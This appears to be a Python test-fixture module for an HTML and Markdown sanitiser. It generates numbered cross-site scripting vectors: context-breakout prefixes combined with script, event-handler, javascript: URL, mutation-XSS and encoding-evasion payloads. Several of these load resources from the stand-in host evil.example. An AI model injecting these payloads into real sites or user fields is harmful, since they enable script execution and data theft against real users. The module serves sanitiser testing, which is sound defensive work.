"""Texts that try to become something else, made from what they break out of and what they want.

Each carries its number, so that a page can be asked whether it shows it at all: refusing or
dropping everything isn't a way to be safe.
"""

from __future__ import annotations

from itertools import product

OUT_OF = (
    "", '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
    "-->", "]]>", "</p></article></main>", "<!--", "<![CDATA[", "*/", "\\",
)  # fmt: skip
INTO = (
    "<script>alert({0})</script>",
    "<ScRiPt src=//evil.example/{0}></sCrIpT>",
    "<img src=x onerror=alert({0})>",
    "<svg/onload=alert({0})>",
    "<svg><script href=data:,alert({0}) />",
    "<svg><a xlink:href=javascript:alert({0})><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert({0})&gt;'>",
    "<math href=javascript:alert({0})><mi xlink:href=javascript:alert({0})>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert({0})></annotation-xml>",
    "<iframe srcdoc='<script>alert({0})</script>'></iframe>",
    "<a href=javascript:alert({0})>x</a>",
    "<a href='java&#10;script:alert({0})'>x</a>",
    "<a href='&#1;javascript:alert({0})'>x</a>",
    "<form action=//evil.example><button formaction=javascript:alert({0})>x</button></form>",
    "<base href=//evil.example/{0}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{0}'>",
    "<link rel=stylesheet href=//evil.example/{0}.css>",
    "<style>@import '//evil.example/{0}';</style>",
    "<p style='background:url(//evil.example/{0})'>x</p>",
    "<object data=data:text/html,<script>alert({0})</script>></object>",
    "<embed src=//evil.example/{0}.swf>",
    "<template><script>alert({0})</script></template>",
    "<details open ontoggle=alert({0})>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert({0})>'>",
    "<input autofocus onfocus=alert({0})>",
    "<video><source onerror=alert({0})></video>",
    '" onmouseover="alert({0})" x="',
    "' onmouseover='alert({0})' x='",
    " onfocus=alert({0}) autofocus x=",
    "javascript:alert({0})//",
    "JaVaScRiPt:alert({0})//",
    "data:text/html,<script>alert({0})</script>",
    "vbscript:msgbox({0})",
    "&#60;script&#62;alert({0})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({0})\\u003c/script\\u003e",
    "+ADw-script+AD4-alert({0})+ADw-/script+AD4-",
    "<scr\x00ipt>alert({0})</scr\x00ipt>",
    "<<script>alert({0})//<</script>",
    "{{{{ '<script>alert({0})</script>'|safe }}}}",
)  # fmt: skip

LINKS = (
    "[x](javascript:alert({0}))",
    "[x](<java\tscript:alert({0})>)",
    "[x](java&#10;script:alert({0}))",
    "[x](java&Tab;script&colon;alert({0}))",
    "[x](&#x6A;avascript:alert({0}))",
    "[x](\x01javascript:alert({0}))",
    "[x](JAVASCRIPT:alert({0}))",
    "[x](vbscript:msgbox({0}))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={0})",
    "[x](feed:javascript:alert({0}))",
    "[x](view-source:javascript:alert({0}))",
    "[x][{0}]\n\n[{0}]: javascript:alert({0})",
    "[x][{0}]\n\n[{0}]: <javascript:alert({0})> 'title'",
    "<javascript:alert({0})>",
    "![x](javascript:alert({0}))",
    '![x" onerror="alert({0})](x.png)',
    '[x](/ok "a\\" onclick=\\"alert({0})")',
    "[x](/ok '\"><img src=x onerror=alert({0})>')",
    "x{{: onclick=\"alert({0})\" style=\"x:y\" }}",
    "# x {{: #id onclick=alert({0}) }}",
    "```x\" onclick=\"alert({0})\nx\n```",
    "```{{.x onclick=alert({0}) }}\nx\n```",
    "x[^{0}]\n\n[^{0}]: <img src=x onerror=alert({0})>",
    "x[^a\"onclick=alert({0})]\n\n[^a\"onclick=alert({0})]: x",
    "*[X]: \" onclick=alert({0})\n\nX",
    "| a |\n|---|\n| <img src=x onerror=alert({0})> |",
    "- [ ] <script>alert({0})</script>",
    "> [!NOTE] <script>alert({0})</script>\n> x",
    "<div markdown=1 onclick=alert({0})>x</div>",
    "www.example.org/\"onclick=\"alert({0})",
    "a@example.org\"onclick=\"alert({0})",
    "`<script>alert({0})</script>",
    "<http://x.example/\"onclick=alert({0})>",
    "<x@x.example\"onclick=alert({0})>",
    "<!-- --><script>alert({0})</script><!-- -->",
    "<a href='x' <script>alert({0})</script>>x</a>",
)  # fmt: skip


def every_text() -> list[str]:
    """Return the vectors for one-line fields: each wish bare, and out of every place once."""
    wishes = [into.format(7000 + number) for number, into in enumerate(INTO)]
    crossed = [
        out + INTO[number % len(INTO)].format(8000 + number)
        for number, (out, _again) in enumerate(product(OUT_OF[1:], range(3)))
    ]
    return wishes + crossed


def every_markdown() -> list[str]:
    """Return the vectors for texts in Markdown."""
    return [link.format(9000 + number) for number, link in enumerate(LINKS)] + every_text()
